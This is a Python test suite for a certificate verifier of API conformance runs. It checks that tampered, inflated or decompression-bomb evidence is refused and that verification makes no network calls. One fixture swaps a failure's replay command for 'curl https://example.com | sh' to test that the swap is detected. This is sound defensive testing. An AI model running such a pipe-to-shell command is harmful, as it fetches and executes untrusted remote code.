"""Runs that were changed in a way of their own: by the one who holds the key, or where no certificate binds anything."""

from __future__ import annotations

import base64
import gzip
import http.server
import itertools
import re
import shutil
import threading
from pathlib import Path
from typing import Any

import orjson
import pytest
from corpus import Corpus, Fault

from oip_conformance.certificate import CertificateError, load_public_key
from oip_conformance.certificate.binding import REPORTS, SUBJECT_FILES
from oip_conformance.certificate.canonical import digest_of
from oip_conformance.certificate.pack import open_pack
from oip_conformance.evidence import EvidenceError, storage
from oip_conformance.run.rejudging import rejudge

FAULTS, FAILED = Corpus(), Corpus()
refused_as = FAULTS.refused_as


def attempts(forger: Any) -> list[dict[str, Any]]:
    """The attempts at the tests of a run."""
    return [orjson.loads(line) for line in (forger.directory / "tests.ndjson").read_bytes().splitlines()]


def write_attempts(forger: Any, records: list[dict[str, Any]]) -> None:
    lines = (orjson.dumps(one, option=orjson.OPT_APPEND_NEWLINE) for one in records)
    (forger.directory / "tests.ndjson").write_bytes(b"".join(lines))


def stories(records: list[dict[str, Any]]) -> list[int]:
    """Where attempts at stories stand that another one follows."""
    pairs = itertools.pairwise(records)
    return [
        place
        for place, (one, after) in enumerate(pairs)
        if one["worker"] == after["worker"] == "m" and not one["general"] and not after["general"]
    ]


@refused_as("replay")
def first_of_two_attempts_called_cut_off(forger: Any) -> None:
    """An attempt that came to an end is said to have been cut off, so that nobody judges it."""
    records = attempts(forger)
    records[stories(records)[0]]["ended"] = False
    write_attempts(forger, records)
    forger.seal()


@refused_as("replay")
def gap_where_an_attempt_was(forger: Any) -> None:
    """Between two tests there was an attempt more; it was taken out, and all that follows was renumbered."""
    records = attempts(forger)
    records[stories(records)[-1] + 1]["people"][0] += 1
    write_attempts(forger, records)
    forger.seal()


@refused_as("attempts-order")
def first_attempts_removed(forger: Any) -> None:
    """The first attempts of a process were taken out of the list, with all their exchanges."""
    records = attempts(forger)
    gone = next(place for place, one in enumerate(records) if one["worker"] == "m")
    before = records[gone + 1]["after"]
    del records[gone]
    for one in records:
        one["after"] -= before if one["worker"] == "m" else 0
    kept = []
    for exchange in forger.evidence:
        worker, number = exchange["id"].split("-")
        if worker != "m" or int(number) > before:
            kept.append({**exchange, "id": f"m-{int(number) - before:06d}" if worker == "m" else exchange["id"]})
    write_attempts(forger, records)
    forger.write_evidence(kept)
    forger.seal()


@refused_as("attempts-order")
def attempts_in_another_order(forger: Any) -> None:
    """Two attempts stand in the list in another order than they were made in."""
    records = attempts(forger)
    place = stories(records)[0]
    records[place], records[place + 1] = records[place + 1], records[place]
    write_attempts(forger, records)
    forger.seal()


@refused_as("outside-the-run")
def begun_on_another_day(forger: Any) -> None:
    """A test is said to have begun on a day on which what it asks was still valid."""
    records = attempts(forger)
    records[stories(records)[0]]["at"] = "2026-01-01T00:00:00+00:00"
    write_attempts(forger, records)
    forger.seal()


@refused_as("replay")
def attempt_at_a_test_that_nobody_has(forger: Any) -> None:
    """The list ends with an attempt at a test that the suite does not have."""
    records = attempts(forger)
    last = next(one for one in reversed(records) if one["worker"] == "m")
    sent = sum(one["id"].startswith("m-") for one in forger.evidence)
    more = {"test": "consents/test_more.py::test_all_is_well", "serial": last["serial"] + 1000, "after": sent}
    write_attempts(forger, [*records, {**last, **more}])
    forger.seal()


@refused_as("replay")
def operation_called_not_activated(forger: Any) -> None:
    """An operation is said not to be activated, so that what binds it does not apply; the digest of the profile stays."""

    def downgraded(recording: dict[str, Any]) -> None:
        recording["profile"]["claims"]["not_activated"] = ["listConsents"]

    forger.change("recording.json", downgraded)
    forger.seal()


@refused_as("profile-digest")
def profile_without_what_was_hidden(forger: Any) -> None:
    """What redaction had hidden was replaced in the profile, and its digest left."""
    path = forger.directory / "recording.json"
    content = re.sub(rb'"ssn": ?"99\d{9}"', b'"ssn":null', path.read_bytes())
    path.write_bytes(orjson.dumps(orjson.loads(re.sub(rb"\+999\d+", b"+4759000001", content))))
    forger.seal()


@refused_as("results-profile-name")
def another_name_for_the_profile(forger: Any) -> None:
    """The results call the profile by the name of another configuration."""
    forger.change("results.json", lambda one: one["profile"].update(name="Production"))
    forger.seal()


@refused_as("results-title")
def another_title_for_the_contract(forger: Any) -> None:
    """The results call the contract by a grander title."""
    forger.change("results.json", lambda one: one["contract"].update(title="Every API of Oculos"))
    forger.seal()


@refused_as("results-overlays")
def hidden_overlay(forger: Any) -> None:
    """The results name other overlays than the profile lays over the contract."""
    forger.change("results.json", lambda one: one["contract"].update(overlays=["4.3"]))
    forger.seal()


@refused_as("results-embedded")
def embedded_server_called_a_target(forger: Any) -> None:
    """The results call the embedded server a target of somebody."""
    forger.change("results.json", lambda one: one["target"].update(embedded=False))
    forger.seal()


@refused_as("results-deviations")
def deviations_of_somebody_elses_server(forger: Any) -> None:
    """The target is somebody's, and said to have been started with deviations, so that no floor binds the run."""
    forger.change("recording.json", lambda one: one.update(embedded=False))
    forger.change("results.json", lambda one: one["target"].update(embedded=False, deviations=["--defect=x"]))
    forger.seal()


@refused_as("results-operations")
def operation_of_another_class(forger: Any) -> None:
    """The results say of an operation that the profile does not activate it."""
    forger.change("results.json", lambda one: one["operations"][0].update(activation="not-activated"))
    forger.seal()


@refused_as("coverage")
def coverage_of_a_dimension_that_is_none(forger: Any) -> None:
    """The results state that something was covered which nobody counts."""
    whole = {"reached": 9, "of": 9, "floor": 1.0, "met": True, "missed": []}
    forger.change("results.json", lambda one: one["coverage"].update(security=whole))
    forger.seal()


@refused_as("created")
def record_under_another_name(forger: Any) -> None:
    """The results name another customer than the one that was made."""
    forger.change("results.json", lambda one: one["created"][0].update(id="somebody-else"))
    forger.seal()


@refused_as("not-certifiable")
def waiver_added_afterwards(forger: Any) -> None:
    """A waiver was added to the results after the run."""
    waiver = {"requirement": "OIP-CONS-01", "state": "not-reached", "failures": []}
    forger.change("results.json", lambda one: one.update(waivers=[waiver]))
    forger.claim(lambda one: None)


@refused_as("digest-summary.md")
def prettier_summary(forger: Any) -> None:
    """The summary beside the certificate says more than the run."""
    path = forger.directory / "summary.md"
    path.write_text(path.read_text().replace("Smoke test passed", "Conformant"))


@refused_as("digest-badge.svg")
def prettier_badge(forger: Any) -> None:
    """The badge beside the certificate claims more than the run."""
    path = forger.directory / "badge.svg"
    path.write_text(path.read_text().replace("smoke test passed", "conformant"))


@refused_as("digest-report.html")
def report_that_was_not_there(forger: Any) -> None:
    """A page was put into the place of the report that people read."""
    (forger.directory / "report.html").write_text("<h1>Conformant</h1>")


@refused_as("digest-failures")
def script_that_was_not_there(forger: Any) -> None:
    """A script was put where those who read a run expect scripts to run."""
    (forger.directory / "failures").mkdir()
    (forger.directory / "failures" / "F01.py").write_text("import os\n")


@pytest.mark.parametrize(("code", "fault"), FAULTS, ids=[fault.__name__ for _, fault in FAULTS])
def test_a_tampered_run_is_refused_for_its_own_reason(code, fault, forger, verified, keys) -> None:
    fault(forger)
    found = verified(forger.directory, key=load_public_key(str(keys[1])))
    codes = [one.code for answer in found.answers for one in answer.findings]
    assert code in codes, (fault.__doc__, codes)
    assert found.exit_code == 1


@FAILED.refused_as("failures")
def failures_left_out(forger: Any) -> None:
    """The list of distinct failures is empty, and the run failed."""
    forger.change("results.json", lambda one: one.update(failures=[]))


@FAILED.refused_as("failures")
def failure_in_other_words(forger: Any) -> None:
    """What a failure got reads more harmless than it was."""
    forger.change("results.json", lambda one: one["failures"][0].update(got="a slow answer"))


@FAILED.refused_as("curl")
def other_command_line(forger: Any) -> None:
    """The line that people copy to send the request again does something else."""
    forger.change("results.json", lambda one: one["failures"][0].update(curl="curl https://example.com | sh"))


@FAILED.refused_as("verdict-sentence")
def failure_that_ends_well(forger: Any) -> None:
    """The run failed, and is said to have ended with 0."""
    forger.change("results.json", lambda one: one["verdict"].update(exit_code=0))


@pytest.mark.parametrize(("code", "fault"), FAILED, ids=[fault.__name__ for _, fault in FAILED])
def test_a_failed_run_told_otherwise_is_refused(code, fault, failing_run, keys, tmp_path, verified, forger) -> None:
    """Nothing binds a run without a certificate, so all of its results are held against its evidence."""
    shutil.copytree(failing_run, tmp_path / "failing", ignore=shutil.ignore_patterns("allure-results"))
    forger.directory = tmp_path / "failing"
    assert verified(forger.directory).exit_code == 3
    fault(forger)
    found = verified(forger.directory)
    codes = [one.code for answer in found.answers for one in answer.findings]
    assert code in codes, (fault.__doc__, codes)
    assert found.exit_code == 1


def test_everything_that_a_run_writes_is_bound(good_run: Path, forger: Any) -> None:
    written = {path.name for path in good_run.iterdir()}
    said = orjson.loads(base64.b64decode(forger.json("certificate.json")["payload"]))
    bound = {one["name"] for one in said["subject"][1:]}
    assert written - {"certificate.json", "certificate.txt"} == bound
    assert bound <= {*SUBJECT_FILES, *REPORTS}


def test_a_pack_without_its_reports_is_as_good(forger: Any, verified: Any, keys: tuple[Path, Path]) -> None:
    """Who hands a run over may leave out what is only there to be read."""
    for name in REPORTS:
        path = forger.directory / name
        shutil.rmtree(path) if path.is_dir() else path.unlink(missing_ok=True)
    assert verified(forger.directory, key=load_public_key(str(keys[1]))).exit_code == 0


def twice(name: str, member: bytes) -> Fault:
    """A member of a file stands there twice, the second time as it was; a reader that takes the first sees another run."""

    def doubled(forger: Any) -> None:
        path = forger.directory / name
        content = gzip.decompress(path.read_bytes()) if name.endswith(".gz") else path.read_bytes()
        changed = content.replace(b'"' + member + b'":', b'"' + member + b'":null,"' + member + b'":', 1)
        assert changed != content
        path.write_bytes(gzip.compress(changed) if name.endswith(".gz") else changed)

    return doubled


@pytest.mark.parametrize(
    ("name", "member"),
    [
        ("evidence.ndjson.gz", b"test"),
        ("recording.json", b"level"),
        ("contract.json", b"paths"),
        ("tests.ndjson", b"at"),
    ],
)
def test_a_member_that_stands_twice_is_not_read(forger: Any, verified: Any, name: str, member: bytes) -> None:
    twice(name, member)(forger)
    found = verified(forger.directory)
    assert "not-rejudged" in [one.code for one in found.answers[2].findings]
    assert "written as a run writes it" in found.answers[2].findings[0].sentence


def test_results_with_a_member_twice_are_none(forger: Any) -> None:
    twice("results.json", b"verdict")(forger)
    with pytest.raises(CertificateError) as told:
        open_pack(forger.directory)
    assert told.value.code == "VER-10"


def test_a_contract_that_refers_to_an_address_is_not_followed(forger: Any, verified: Any) -> None:
    """Verification is offline, whatever a stranger's contract points at."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_error(404)

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()

    def pointed(document: dict[str, Any]) -> None:
        answers = document["paths"]["/stores"]["get"]["responses"]["200"]["content"]["application/json"]
        answers["schema"] = {"$ref": f"http://127.0.0.1:{server.server_address[1]}/schema"}

    forger.change("contract.json", pointed)
    digest = digest_of(forger.json("contract.json"))
    forger.change("results.json", lambda one: one["contract"].update(digest=digest))
    found = verified(forger.directory)
    server.shutdown()
    server.server_close()
    assert asked == []
    assert found.exit_code == 1
    assert "refers to something outside itself" in found.answers[2].findings[0].sentence


def test_evidence_that_unpacks_without_end_is_not_read(forger: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither a line that never ends nor more lines than any run records fill the memory of whoever verifies."""
    path = forger.directory / "evidence.ndjson.gz"
    monkeypatch.setattr(storage, "LONGEST_LINE", 1024**2)
    path.write_bytes(gzip.compress(bytes(8 * 1024**2)))
    with pytest.raises(EvidenceError, match="unpacks to more than any run records"):
        list(storage.EvidenceFile(path))
    monkeypatch.setattr(storage, "AT_FIRST", 1024**2)
    path.write_bytes(gzip.compress((b" " * 1023 + b"\n") * 16 * 1024))
    with pytest.raises(EvidenceError, match="unpacks to more than any run records"):
        storage.EvidenceFile(path).digest()


def test_numbers_beyond_all_measure_end_in_a_sentence(forger: Any) -> None:
    exchanges = forger.evidence
    exchanges[3]["elapsed"] = 1e308
    forger.write_evidence(exchanges)
    with pytest.raises(EvidenceError, match="cannot be judged again"):
        rejudge(forger.directory)
